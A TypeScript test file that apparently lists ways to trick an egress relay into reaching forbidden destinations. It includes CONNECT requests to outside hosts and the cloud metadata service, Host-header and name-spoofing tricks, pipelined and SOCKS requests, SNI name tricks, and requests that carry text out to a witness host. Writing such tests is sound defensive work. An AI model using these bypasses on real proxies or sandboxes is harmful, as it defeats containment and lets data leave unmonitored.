/** What a relay is asked that it must not do: whatever its words, nothing but what it allows is reached. */
import { METADATA, nobody } from './attempt.ts';
import type { EscapeAttempt, RelayTarget, Targets } from './attempt.ts';

/** A relay is asked with these words; `asked` gets host:port of the witness outside. */
const ask = (
  id: string,
  title: string,
  words: (t: Targets) => string,
  as: 'http' | 'socks' = 'http',
): EscapeAttempt =>
  nobody(`relay-${id}`, `relay: ${title}`, (t) => {
    if (t.relay === undefined) return undefined;
    const { address, port, socksPort, tls, opensTls, saysYes } = t.relay;
    return {
      kind: 'relay',
      to: address,
      port: as === 'http' ? port : socksPort,
      say: as === 'http' ? signedIn(words(t), t.relay) : words(t),
      // Each is a program of its own, and all of them start at once on the one processor that an endpoint has.
      ...(tls ? { tls: 1, more: 10 } : {}),
      ...(opensTls ? { hello: 1 } : {}),
      ...(saysYes ? { weak: 1 } : {}),
    };
  });
/** A client in good standing tries to get further than it may. */
function signedIn(words: string, { account }: RelayTarget): string {
  if (account === undefined) return words;
  const header = `Proxy-Authorization: Basic ${Buffer.from(account).toString('base64')}\r\n`;
  return words.replaceAll(/ HTTP\/1\.[01]\r\n/g, (line) => `${line}${header}`);
}
/** A name in TLS's first words, to a relay that goes by it. */
const greet = (id: string, title: string, name: (t: Targets) => string): EscapeAttempt =>
  nobody(`relay-${id}`, `relay: ${title}`, (t) => {
    if (t.relay === undefined || t.relay.tls) return undefined;
    return { kind: 'sni', to: t.relay.address, port: t.relay.sniPort, name: name(t) };
  });
const connect = (target: string, host = target): string =>
  `CONNECT ${target} HTTP/1.1\r\nHost: ${host}\r\n\r\n`;
const get = (url: string, host: string): string =>
  `GET ${url} HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n\r\n`;
const hostOf = (destination: string): string => destination.slice(0, destination.lastIndexOf(':'));
const asNumber = (address: string): number =>
  address.split('.').reduce((sum, part) => sum * 256 + Number(part), 0);

const byte = (value: number): string => String.fromCharCode(value);
const octets = (address: string): string =>
  address
    .split('.')
    .map((part) => byte(Number(part)))
    .join('');
function socks4(address: string, port: number): string {
  return `\x04\x01${byte(port >> 8)}${byte(port & 255)}${octets(address)}\x00`;
}
function socks5(address: string, port: number): string {
  return `\x05\x01\x00\x01${octets(address)}${byte(port >> 8)}${byte(port & 255)}`;
}

export const RELAY: readonly EscapeAttempt[] = [
  ask('connect-outside', 'CONNECT to an outside address', ({ outside, port }) =>
    connect(`${outside}:${port}`),
  ),
  ask('connect-outside-443', 'CONNECT to an outside address, port 443', ({ outside }) =>
    connect(`${outside}:443`),
  ),
  ask('connect-outside-name', 'CONNECT to an outside name', ({ port }) =>
    connect(`www.outside.example:${port}`),
  ),
  ask('connect-ipv6', 'CONNECT to an outside IPv6 address', ({ outside6, port }) =>
    connect(`[${outside6}]:${port}`),
  ),
  ask('connect-decimal', 'CONNECT to an address written as one number', ({ outside, port }) =>
    connect(`${asNumber(outside)}:${port}`),
  ),
  ask('connect-host', 'CONNECT to the host', ({ host, port }) => connect(`${host}:${port}`)),
  ask('connect-metadata', 'CONNECT to the metadata service', () => connect(`${METADATA}:80`)),
  ask('connect-resolver', 'CONNECT to the resolver beyond', ({ resolver }) => connect(`${resolver}:53`)),
  ask('connect-app-address', 'CONNECT to the cloud’s address instead of its name', ({ app }) =>
    connect(`${app}:443`),
  ),
  ask('connect-other-port', 'CONNECT to an allowed name at another port', ({ allowed, port }) =>
    connect(`${hostOf(allowed)}:${port}`),
  ),
  ask('connect-other-lab', 'CONNECT to an endpoint of another lab', ({ other, port }) =>
    connect(`${other}:${port}`),
  ),
  ask(
    'host-header',
    'CONNECT outside with the Host header of an allowed name',
    ({ outside, port, allowed }) => connect(`${outside}:${port}`, allowed),
  ),
  ask(
    'two-hosts',
    'CONNECT outside with two Host headers',
    ({ outside, port, allowed }) =>
      `CONNECT ${outside}:${port} HTTP/1.1\r\nHost: ${allowed}\r\nHost: ${outside}:${port}\r\n\r\n`,
  ),
  ask('userinfo', 'an allowed name as user information of another', ({ outside, port, allowed }) =>
    get(`http://${allowed}@${outside}:${port}/{text}`, allowed),
  ),
  ask('suffix', 'a name that begins with an allowed one', ({ port, allowed }) =>
    connect(`${hostOf(allowed)}.outside.example:${port}`),
  ),
  ask('prefix', 'a name that ends with an allowed one', ({ port, allowed }) =>
    connect(`www.${hostOf(allowed)}:${port}`),
  ),
  ask('upper-case', 'an outside name in upper case', ({ port }) => connect(`WWW.OUTSIDE.EXAMPLE:${port}`)),
  ask('trailing-dot', 'an outside name with a trailing dot', ({ port }) =>
    connect(`www.outside.example.:${port}`),
  ),
  ask(
    'http-1.0',
    'CONNECT in HTTP/1.0 without a Host header',
    ({ outside, port }) => `CONNECT ${outside}:${port} HTTP/1.0\r\n\r\n`,
  ),
  ask('get', 'GET with an absolute URI', ({ outside, port }) =>
    get(`http://${outside}:${port}/{text}`, `${outside}:${port}`),
  ),
  ask(
    'get-host-header',
    'GET outside with the Host header of an allowed name',
    ({ outside, port, allowed }) => get(`http://${outside}:${port}/{text}`, allowed),
  ),
  ask(
    'post',
    'POST outside',
    ({ outside, port }) =>
      `POST http://${outside}:${port}/ HTTP/1.1\r\nHost: ${outside}:${port}\r\nContent-Length: 12\r\n\r\n{text}`,
  ),
  ask(
    'options',
    'OPTIONS outside',
    ({ outside, port }) =>
      `OPTIONS http://${outside}:${port}/{text} HTTP/1.1\r\nHost: ${outside}:${port}\r\n\r\n`,
  ),
  ask(
    'upgrade',
    'GET with an upgrade to a web socket',
    ({ outside, port }) =>
      `GET http://${outside}:${port}/{text} HTTP/1.1\r\nHost: ${outside}:${port}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n`,
  ),
  ask('ftp', 'GET of an FTP address', ({ outside, port }) =>
    get(`ftp://{text}@${outside}:${port + 1}/`, `${outside}:${port}`),
  ),
  ask(
    'pipelined',
    'a second request behind a refused one',
    ({ outside, port }) =>
      `${get(`http://undeclared.invalid/`, 'undeclared.invalid').replace('Connection: close', 'Connection: keep-alive')}${get(`http://${outside}:${port}/{text}`, `${outside}:${port}`)}`,
  ),
  ask('socks4', 'SOCKS4 at the relay’s port', ({ outside, port }) => socks4(outside, port), 'socks'),
  ask(
    'socks5',
    'SOCKS5 at the relay’s port',
    ({ outside, port }) => `\x05\x01\x00<then>${socks5(outside, port)}`,
    'socks',
  ),
  greet('sni-outside', 'TLS with an outside name', () => 'outside.example'),
  greet('sni-suffix', 'TLS with a name that ends with an allowed one', ({ allowed }) => hostOf(allowed)),
  greet(
    'sni-prefix',
    'TLS with a name in which an allowed one is',
    (t) => `${hostOf(t.allowed)}.outside.example`,
  ),
];
